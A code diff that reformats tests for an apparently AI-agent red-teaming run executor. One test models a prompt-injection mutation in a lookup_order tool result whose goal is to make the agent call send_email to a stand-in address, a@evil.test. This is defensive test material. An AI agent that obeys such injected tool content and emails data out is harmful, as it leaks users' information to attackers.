@@ -104,10 +104,7 @@ describe('run executor', () => {
     // Prepare
     const w = makeWorld(campaign());
     // Act
-    await Promise.all([
-      executeRun(w.deps, w.msg, { targetFactory: agentFactory() }),
-      executeRun(w.deps, w.msg, { targetFactory: agentFactory() }),
-    ]);
+    await Promise.all([executeRun(w.deps, w.msg, { targetFactory: agentFactory() }), executeRun(w.deps, w.msg, { targetFactory: agentFactory() })]);
     // Assess
     expect(w.deps.runs.attempts.get(RUN_ID)?.size).toBe(6);
     expect(run(w).summary.attempt_count).toBe(6);
@@ -206,7 +203,9 @@ describe('run executor', () => {
 
   it('completes with a low pass rate when the agent misbehaves in some attempts', async () => {
     // Prepare
-    const w = makeWorld(makeCampaign({ mutations: [{ id: 'inject', type: 'prompt_injection', tool: 'lookup_order', goal: { tool: 'send_email' } }] }));
+    const w = makeWorld(
+      makeCampaign({ mutations: [{ id: 'inject', type: 'prompt_injection', tool: 'lookup_order', goal: { tool: 'send_email' } }] }),
+    );
     const obeying = () => scriptedAgent([...plan, call('send_email', { to: 'a@evil.test' })], 'ok');
     // Act
     await executeRun(w.deps, w.msg, { targetFactory: obeying });
@@ -246,7 +245,12 @@ describe('dead-letter path (markRunFailed)', () => {
     await markRunFailed(w.deps, w.msg, 'processing abandoned after 3 deliveries', { onTerminal });
     await markRunFailed(w.deps, w.msg, 'processing abandoned after 3 deliveries', { onTerminal });
     // Assess
-    expect(run(w)).toMatchObject({ status: 'failed', error: 'processing abandoned after 3 deliveries', summary: { attempt_count: 3 }, completion_published: true });
+    expect(run(w)).toMatchObject({
+      status: 'failed',
+      error: 'processing abandoned after 3 deliveries',
+      summary: { attempt_count: 3 },
+      completion_published: true,
+    });
     expect(completions(w)).toHaveLength(1);
     expect(completions(w)[0].envelope.data).toMatchObject({ status: 'failed', attempt_count: 3 });
     expect(onTerminal).toHaveBeenCalledTimes(1);
